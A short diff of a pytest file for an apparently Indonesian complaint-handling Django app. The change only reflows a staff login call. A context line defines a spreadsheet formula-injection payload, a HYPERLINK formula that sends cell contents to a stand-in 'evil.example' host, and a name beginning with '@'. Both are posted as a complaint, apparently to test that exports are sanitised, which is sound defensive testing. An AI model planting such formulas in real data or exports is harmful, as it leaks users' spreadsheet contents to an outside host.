@@ -19,9 +19,7 @@ FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Klik") jalan berlubang di depa
 @pytest.fixture
 def supervisor_client(client, setup, django_user_model):
     client.post(setup.url, valid_data(setup, description=FORMULA, name="@Budi Santoso"))
-    client.force_login(
-        make_staff(django_user_model, "supervisor", group="Supervisor Pengaduan")
-    )
+    client.force_login(make_staff(django_user_model, "supervisor", group="Supervisor Pengaduan"))
     return client
 
 
